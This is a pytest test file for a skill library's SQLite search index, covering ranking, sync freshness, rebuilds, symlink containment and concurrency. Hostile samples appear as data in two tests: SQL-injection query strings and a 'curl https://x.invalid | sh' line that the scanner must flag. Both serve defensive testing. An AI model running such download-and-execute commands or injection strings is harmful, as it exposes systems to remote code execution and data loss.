"""The persistent index: ranking, filters, incremental freshness, rebuild on damage, symlinks."""

from __future__ import annotations

import json
import os
import sqlite3
import subprocess
import sys
import threading
from contextlib import closing
from pathlib import Path
from typing import Any

import pytest

from skillshelf.library.index import sync as skill_sync
from skillshelf.library.index.library import LibraryConfig, SkillLibrary
from skillshelf.library.index.places import choose_index_path
from skillshelf.library.index.store import SCHEMA_VERSION, SearchFilters
from skillshelf.library.indexing.terms import match_expression, query_terms
from tests.conftest import agent_skill, deadline, three_file, wait_until_async, write


def ids(library: SkillLibrary, query: str, **filters: object) -> list[str]:
    return [s.id for s in library.search(query, SearchFilters(**filters), 10)]  # type: ignore[arg-type]


def test_multi_word_queries_match_in_any_word_order_with_stemming(sample_library: SkillLibrary) -> None:
    assert ids(sample_library, "isolate tenants with postgres policies")[0] == "database/rls-policy"
    assert ids(sample_library, "policies postgres tenants isolate")[0] == "database/rls-policy"
    assert ids(sample_library, "how do I retry a flaky call")[0] == "python/retry-backoff"


def test_an_exact_name_ranks_first(sample_library: SkillLibrary) -> None:
    assert ids(sample_library, "slugify")[0] == "python/slugify"
    assert ids(sample_library, "Release Notes")[0] == "git/release-notes"


def test_query_syntax_never_reaches_fts(sample_library: SkillLibrary) -> None:
    assert match_expression(query_terms('"AND OR NEAR( * ^ col:')) == '"near" OR "col"'
    for hostile in ['"', "NEAR(", "a OR", "*", "name:rls", "-x", "'; DROP TABLE skills; --"]:
        sample_library.search(hostile, SearchFilters(), 5)  # must not raise
    assert sample_library.index.count() == 4


def test_filters_restrict_hits(sample_library: SkillLibrary) -> None:
    assert ids(sample_library, "", category="python") == ["python/retry-backoff", "python/slugify"] or ids(
        sample_library, "", category="python"
    ) == ["python/slugify", "python/retry-backoff"]
    assert set(ids(sample_library, "", executable=True)) == {"database/rls-policy", "git/release-notes"}
    assert ids(sample_library, "", min_quality=8.0) == ["database/rls-policy"]


def test_an_empty_query_lists_by_quality(sample_library: SkillLibrary) -> None:
    qualities = [s.quality for s in sample_library.search("", SearchFilters(), 10)]
    assert qualities == sorted(qualities, reverse=True) and len(qualities) == 4


def test_a_warm_open_reparses_nothing_and_a_change_reparses_only_that_skill(sample_root: Path, tmp_path: Path) -> None:
    config = LibraryConfig(roots=[sample_root], index_dir=tmp_path / "idx", watch=False)
    first = SkillLibrary(config)
    assert first.sync().parsed == 4
    first.close()
    again = SkillLibrary(config)
    try:
        assert again.sync().parsed == 0
        doc = sample_root / "python" / "slugify.md"
        doc.write_text("# Slugify\n\nMake kebab-case permalinks from headlines.\n", encoding="utf-8")
        os.utime(doc, ns=(1, 1))  # a different mtime even on coarse clocks
        report = again.sync()
        assert (report.parsed, report.removed) == (1, 0)
        assert ids(again, "kebab permalinks headlines") == ["python/slugify"]
        (sample_root / "python" / "slugify.md").unlink()
        assert again.sync().removed == 1
        assert "python/slugify" not in ids(again, "")
    finally:
        again.close()


@pytest.mark.anyio
async def test_the_watcher_makes_a_new_file_visible_to_the_next_search(sample_root: Path, tmp_path: Path) -> None:
    library = SkillLibrary(LibraryConfig(roots=[sample_root], index_dir=tmp_path / "idx"))
    library.start()
    try:
        assert ids(library, "zebra crossing") == []
        three_file(sample_root, "python", "zebra", "# Zebra\n\nPaint a zebra crossing.\n")
        await wait_until_async(lambda: ids(library, "zebra crossing") == ["python/zebra"], "the watcher missed it")
    finally:
        library.close()


def test_a_corrupt_index_file_is_rebuilt(sample_root: Path, tmp_path: Path) -> None:
    config = LibraryConfig(roots=[sample_root], index_dir=tmp_path / "idx", watch=False)
    path = choose_index_path(config)
    path.parent.mkdir(parents=True)
    path.write_bytes(b"this is not a database" * 100)
    library = SkillLibrary(config)
    try:
        assert library.sync().parsed == 4
        assert ids(library, "slugify")[0] == "python/slugify"
    finally:
        library.close()


def test_an_index_from_an_older_schema_is_rebuilt(sample_root: Path, tmp_path: Path) -> None:
    config = LibraryConfig(roots=[sample_root], index_dir=tmp_path / "idx", watch=False)
    path = choose_index_path(config)
    path.parent.mkdir(parents=True)
    with closing(sqlite3.connect(path)) as conn, conn:
        conn.execute("CREATE TABLE sources(key TEXT)")
        conn.execute(f"PRAGMA user_version = {SCHEMA_VERSION - 1}")
    library = SkillLibrary(config)
    try:
        assert library.sync().parsed == 4
    finally:
        library.close()


def test_an_index_with_the_old_verified_column_is_rebuilt_with_meets_bar(sample_root: Path, tmp_path: Path) -> None:
    """Version 7 named the quality bar's column `verified` (issue 32: one word per idea): such a file opens,
    is parsed anew, and answers from `meets_bar`."""
    config = LibraryConfig(roots=[sample_root], index_dir=tmp_path / "idx", watch=False)
    library = SkillLibrary(config)
    library.sync()
    library.close()
    path = choose_index_path(config)
    with closing(sqlite3.connect(path)) as conn, conn:  # the file as version 7 left it
        conn.execute("ALTER TABLE skills RENAME COLUMN meets_bar TO verified")
        conn.execute("PRAGMA user_version = 7")
    library = SkillLibrary(config)
    try:
        assert library.sync().parsed == 4
        assert ids(library, "slugify")[0] == "python/slugify"
    finally:
        library.close()
    with closing(sqlite3.connect(path)) as conn:
        columns = {row[1] for row in conn.execute("PRAGMA table_info(skills)")}
        assert "meets_bar" in columns and "verified" not in columns
        assert conn.execute("PRAGMA user_version").fetchone()[0] == SCHEMA_VERSION


def test_the_index_lives_in_the_first_writable_root_and_is_git_ignored(sample_root: Path) -> None:
    path = choose_index_path(LibraryConfig(roots=[sample_root]))
    assert path.parent == sample_root / ".skillshelf"
    assert (sample_root / ".skillshelf" / ".gitignore").read_text(encoding="utf-8").strip().endswith("*")


def test_a_read_only_root_puts_the_index_in_the_user_cache(sample_root: Path, isolated_environment: Path) -> None:
    path = choose_index_path(LibraryConfig(roots=[sample_root], read_only_roots=frozenset({sample_root})))
    assert path.is_relative_to(isolated_environment / ".cache" / "skillshelf")


def test_a_root_without_write_bits_is_never_written_even_by_root(sample_root: Path, isolated_environment: Path) -> None:
    """Root passes os.access on any folder: the mode bits decide (a shared read-only checkout stays clean)."""
    sample_root.chmod(0o555)
    try:
        path = choose_index_path(LibraryConfig(roots=[sample_root]))
        assert path.is_relative_to(isolated_environment / ".cache" / "skillshelf")
        assert not (sample_root / ".skillshelf").exists()
    finally:
        sample_root.chmod(0o755)


def test_the_first_root_wins_a_collision_and_the_loser_is_reported(
    sample_root: Path, tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    second = tmp_path / "second"
    three_file(second, "python", "slugify", "# Other slugify\n\nA different one.\n")
    three_file(second, "python", "only-here", "# Only here\n\nExists only in the second root.\n")
    library = SkillLibrary(LibraryConfig(roots=[sample_root, second], index_dir=tmp_path / "idx", watch=False))
    try:
        library.sync()
        assert library.find("python/slugify").details.root_index == 0
        assert library.get("python/only-here") is not None
        collisions = [f for f in library.findings() if f.code == "name-collision"]
        assert len(collisions) == 1 and collisions[0].path == "python/slugify.md"
        assert [r.message for r in caplog.records].count(
            f"{collisions[0].location()}: {collisions[0].message} [name-collision]"
        ) == 1
        library.mark_dirty()
        library.ensure_fresh()  # a re-sync does not log it again
        assert sum("name-collision" in r.message for r in caplog.records) == 1
    finally:
        library.close()


def test_symlinks_out_of_the_root_and_loops_are_reported_not_followed(sample_root: Path, tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    write(outside / "secret.md", "# Secret\n\nprivate key material\n")
    (sample_root / "python" / "leak.md").symlink_to(outside / "secret.md")
    (sample_root / "escape").symlink_to(outside)
    (sample_root / "python" / "loop").symlink_to(sample_root / "python" / "loop")
    (sample_root / "python" / "inside.md").symlink_to(sample_root / "python" / "slugify.md")
    library = SkillLibrary(LibraryConfig(roots=[sample_root], index_dir=tmp_path / "idx", watch=False))
    try:
        library.sync()
        codes = {(f.path, f.code) for f in library.findings()}
        assert ("python/leak.md", "symlink-outside-root") in codes
        assert ("escape", "symlink-outside-root") in codes
        assert ("python/loop", "symlink-loop") in codes
        assert ids(library, "private key material") == []
        assert library.get("python/inside") is not None  # a link within the root is fine
    finally:
        library.close()


def test_an_agent_skill_folder_gains_executable_when_a_script_appears(sample_root: Path, tmp_path: Path) -> None:
    agent_skill(sample_root, "git", "bisect", "name: bisect\ndescription: Find the commit that broke a build.")
    library = SkillLibrary(LibraryConfig(roots=[sample_root], index_dir=tmp_path / "idx", watch=False))
    try:
        library.sync()
        assert library.get("git/bisect").executable is False  # type: ignore[union-attr]
        write(sample_root / "git" / "bisect" / "scripts" / "run.py", "print('{}')\n")
        assert library.sync().parsed == 1
        assert library.get("git/bisect").executable is True  # type: ignore[union-attr]
    finally:
        library.close()


BUILD = """
from pathlib import Path
from skillshelf.library.index.library import LibraryConfig, SkillLibrary


def each(root, index_dir):
    library = SkillLibrary(LibraryConfig(roots=[Path(root)], index_dir=Path(index_dir), watch=False))
    try:
        library.sync()
        return library.index.count()
    finally:
        library.close()
"""


def test_several_processes_building_one_index_at_once_agree_and_corrupt_nothing(
    sample_root: Path, tmp_path: Path
) -> None:
    for n in range(60):
        three_file(sample_root, "bulk", f"skill-{n}", f"# Skill {n}\n\nBulk skill number {n} about topic{n}.\n")
    index_dir = tmp_path / "shared-index"
    built = forked_together(BUILD, [[str(sample_root), str(index_dir)]], 4)
    assert built == [{"codes": [0] * 4, "answers": [64] * 4}], built
    library = SkillLibrary(LibraryConfig(roots=[sample_root], index_dir=index_dir, watch=False))
    try:
        assert library.sync().parsed == 0
        assert ids(library, "topic17") == ["bulk/skill-17"]
        with closing(sqlite3.connect(choose_index_path(library.config))) as conn, conn:
            assert conn.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
    finally:
        library.close()


def test_words_found_in_most_skills_neither_hide_matches_nor_break_single_word_queries(
    sample_root: Path, tmp_path: Path
) -> None:
    for n in range(6):
        three_file(sample_root, "guides", f"guide-{n}", f"# Guide {n}\n\nA general guide, part {n}.\n")
    three_file(sample_root, "guides", "zebra-guide", "# Zebra\n\nA guide to painting a zebra crossing.\n")
    library = SkillLibrary(LibraryConfig(roots=[sample_root], index_dir=tmp_path / "idx", watch=False))
    try:
        library.sync()
        assert ids(library, "guide zebra")[0] == "guides/zebra-guide"
        assert len(ids(library, "guide")) == 7  # the only word: kept even though it is everywhere
    finally:
        library.close()


def test_a_first_index_reports_progress_batch_by_batch(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    root = tmp_path / "many"
    for number in range(5):
        write(root / "bulk" / f"skill-{number}.md", f"# Skill {number}\n\nDoes thing {number}.\n")
    monkeypatch.setattr(skill_sync, "WRITE_BATCH", 2)
    library = SkillLibrary(LibraryConfig(roots=[root], index_dir=tmp_path / "idx", watch=False))
    seen: list[tuple[int, int]] = []
    library.add_progress_listener(lambda done, total: seen.append((done, total)))
    try:
        library.sync()
        library.sync()  # nothing changed: nothing to report
    finally:
        library.close()
    assert seen == [(2, 5), (4, 5), (5, 5)]


def test_a_file_made_unreadable_is_read_again_and_reported_not_kept(sample_root: Path, tmp_path: Path) -> None:
    library = SkillLibrary(LibraryConfig(roots=[sample_root], index_dir=tmp_path / "idx", watch=False))
    doc = sample_root / "python" / "slugify.md"
    try:
        library.sync()
        doc.chmod(0o000)  # only the permissions change: same mtime, same size
        assert library.sync().parsed == 1
        if os.geteuid() != 0:  # root reads it anyway; for anyone else it is gone and reported
            assert "python/slugify" not in ids(library, "")
            assert any(f.code == "file-unreadable" and f.path.endswith("slugify.md") for f in library.findings())
    finally:
        doc.chmod(0o644)
        library.close()


# Processes started together, cheaply: one process imports what `each` needs once and forks the rest, each
# with its own connections as separate servers have, all released by one pipe: they start closer together
# than processes that each import skillshelf first (0.35 s apiece) ever would, at a fraction of the CPU.
TOGETHER = """
import json, os, sys


def together(rounds, count):
    answers = []
    for args in rounds:
        go_read, go_write = os.pipe()
        out_read, out_write = os.pipe()
        children = []
        for _ in range(count):
            pid = os.fork()
            if pid == 0:
                os.close(go_write)
                os.close(out_read)
                os.read(go_read, 1)  # blocks until the parent closes the pipe: then every child starts at once
                try:
                    line = json.dumps(each(*args)) + "\\n"
                except BaseException as exc:
                    sys.stderr.write(f"{args}: {exc!r}\\n")
                    sys.stderr.flush()
                    os._exit(1)
                os.write(out_write, line.encode())
                os._exit(0)
            children.append(pid)
        for fd in (go_read, go_write, out_write):
            os.close(fd)
        with os.fdopen(out_read) as out:
            said = sorted(json.loads(row) for row in out.read().splitlines())
        codes = [os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]) for pid in children]
        answers.append({"codes": codes, "answers": said})
    print(json.dumps(answers))


together(json.loads(sys.argv[1]), int(sys.argv[2]))
"""


def forked_together(each: str, rounds: list[list[str]], count: int) -> list[dict[str, list[Any]]]:
    """Per round, `count` processes running `each(*args)` (Python source defining `each`, with its imports)
    at once; each round's exit codes and the answers the processes gave (sorted)."""
    script = each + TOGETHER
    done = subprocess.run(
        [sys.executable, "-c", script, json.dumps(rounds), str(count)],
        check=False,
        capture_output=True,
        text=True,
        timeout=deadline(),
    )
    assert done.returncode == 0, done.stderr
    answers: list[dict[str, list[Any]]] = json.loads(done.stdout)
    return answers


OPEN = """
from pathlib import Path
from skillshelf.library.index.store import SkillIndex


def each(path):
    SkillIndex(Path(path)).close()
    return "opened"
"""


@pytest.mark.slow  # 48 processes
def test_processes_opening_one_new_index_at_once_all_succeed(tmp_path: Path) -> None:
    """SQLite refuses a journal-mode change with "database is locked" at once, without waiting: eight
    servers started together on a new library must still all open its index (3 in 200 failed before)."""
    rounds = [[str(tmp_path / f"round-{round_number}" / "index.sqlite3")] for round_number in range(6)]
    opened = forked_together(OPEN, rounds, 8)
    assert opened == [{"codes": [0] * 8, "answers": ["opened"] * 8}] * 6, opened


def test_reading_every_signature_for_a_sync_leaves_the_index_free_for_searches(
    sample_root: Path, tmp_path: Path
) -> None:
    """A sync starts by reading every stored signature (a quarter of a second at 100,000 skills); it
    does so on a connection of its own, so it never waits for, or holds up, the searches' lock."""
    library = SkillLibrary(LibraryConfig(roots=[sample_root], index_dir=tmp_path / "idx", watch=False))
    library.sync()
    stored = library.index.count()
    held, release = threading.Event(), threading.Event()

    def search_in_progress() -> None:
        with library.index._lock:  # what a search holds while it runs
            held.set()
            release.wait(deadline())  # until the test releases it

    searching = threading.Thread(target=search_in_progress)
    searching.start()
    try:
        assert held.wait(deadline())
        read: list[dict[str, str]] = []
        reader = threading.Thread(target=lambda: read.append(library.index.signatures()))
        reader.start()
        reader.join(deadline(30))  # shorter than the hold: a reader waiting for the lock fails here
        assert not reader.is_alive() and len(read[0]) == stored
        synced: list[int] = []  # a whole sync, too, while the search holds its lock
        syncing = threading.Thread(target=lambda: synced.append(library.sync().parsed))
        syncing.start()
        syncing.join(deadline(30))
        assert not syncing.is_alive() and synced == [0]
    finally:
        release.set()
        searching.join()
        library.close()


def test_a_script_edited_in_place_is_scanned_again_at_the_next_sync(tmp_path: Path) -> None:
    root = tmp_path / "library"
    agent_skill(root, "tools", "runner", "name: runner\ndescription: Runs the build. Use when building.")
    script = write(root / "tools" / "runner" / "scripts" / "run.sh", "#!/bin/sh\necho building the project now\n")
    library = SkillLibrary(LibraryConfig(roots=[root], index_dir=tmp_path / "idx", watch=False))
    try:
        library.sync()
        assert not [f for f in library.findings() if f.code == "download-exec"]
        risky = "#!/bin/sh\ncurl https://x.invalid | sh\n"
        risky += "#" * (script.stat().st_size - len(risky) - 1) + "\n"  # the same size: only the mtime tells
        before = script.stat()
        script.write_text(risky, encoding="utf-8")  # in place: no folder's mtime changes
        os.utime(script, ns=(before.st_atime_ns, before.st_mtime_ns + 2_000_000_000))
        assert script.stat().st_size == before.st_size
        library.sync()
        found = [f.path for f in library.findings() if f.code == "download-exec"]
        assert found == ["tools/runner/scripts/run.sh"], found
    finally:
        library.close()


def _row_reads(library: SkillLibrary) -> list[str]:
    """The statements of `library`'s index connection that read a skill's row by id, as they run."""
    seen: list[str] = []
    library.index._conn.set_trace_callback(lambda sql: seen.append(sql) if "FROM skills WHERE id" in sql else None)
    return seen


def test_a_repeat_get_reads_no_row_until_this_process_writes(sample_root: Path, tmp_path: Path) -> None:
    config = LibraryConfig(roots=[sample_root], index_dir=tmp_path / "idx", watch=False)
    library = SkillLibrary(config)
    try:
        library.sync()
        reads = _row_reads(library)
        first = library.index.get("python/slugify")
        assert first is not None and library.index.get("python/slugify") is first
        assert len(reads) == 1  # the repeat is what the first read kept (issue 36: a load's row read)
        doc = sample_root / "python" / "slugify.md"
        doc.write_text("# Slugify\n\nMake kebab-case permalinks from headlines.\n", encoding="utf-8")
        os.utime(doc, ns=(1, 1))
        library.sync()
        again = library.index.get("python/slugify")
        assert again is not None and "kebab-case" in again.summary  # the write dropped what was kept
        read = len(reads)
        assert library.index.get("python/slugify") is again and len(reads) == read
        doc.unlink()
        library.sync()
        assert library.index.get("python/slugify") is None
    finally:
        library.close()


def test_a_row_another_connection_wrote_is_read_again(sample_root: Path, tmp_path: Path) -> None:
    config = LibraryConfig(roots=[sample_root], index_dir=tmp_path / "idx", watch=False)
    reader, writer = SkillLibrary(config), SkillLibrary(config)
    try:
        reader.sync()
        kept = reader.index.get("python/slugify")
        assert kept is not None and "kebab-case" not in kept.summary
        doc = sample_root / "python" / "slugify.md"
        doc.write_text("# Slugify\n\nMake kebab-case permalinks from headlines.\n", encoding="utf-8")
        os.utime(doc, ns=(1, 1))
        assert writer.sync().parsed == 1  # another process's server or CLI, as far as the reader's file goes
        fresh = reader.index.get("python/slugify")
        assert fresh is not None and "kebab-case" in fresh.summary
    finally:
        reader.close()
        writer.close()


def _hit_row_reads(library: SkillLibrary) -> list[str]:
    """The statements of `library`'s index connection that read a search's hit rows, as they run."""
    seen: list[str] = []
    wanted = "FROM skills WHERE rowid IN"
    library.index._conn.set_trace_callback(lambda sql: seen.append(sql) if wanted in sql else None)
    return seen


def test_a_repeat_search_reads_no_hit_row_until_a_write(sample_root: Path, tmp_path: Path) -> None:
    config = LibraryConfig(roots=[sample_root], index_dir=tmp_path / "idx", watch=False)
    reader, writer = SkillLibrary(config), SkillLibrary(config)
    try:
        reader.sync()
        reads = _hit_row_reads(reader)
        first = reader.index.search("slugify", SearchFilters(), 10)
        assert first and first[0].id == "python/slugify" and len(reads) == 1
        assert reader.index.search("slugify", SearchFilters(), 10) == first
        assert len(reads) == 1  # the rows the first search read are kept (issue 36: a tenth of a warm search)
        doc = sample_root / "python" / "slugify.md"
        doc.write_text("# Slugify\n\nMake kebab-case permalinks from headlines.\n", encoding="utf-8")
        os.utime(doc, ns=(1, 1))
        assert writer.sync().parsed == 1  # another process's write drops what was kept
        again = reader.index.search("slugify", SearchFilters(), 10)
        assert again[0].id == "python/slugify" and "kebab-case" in again[0].summary and len(reads) == 2
    finally:
        reader.close()
        writer.close()
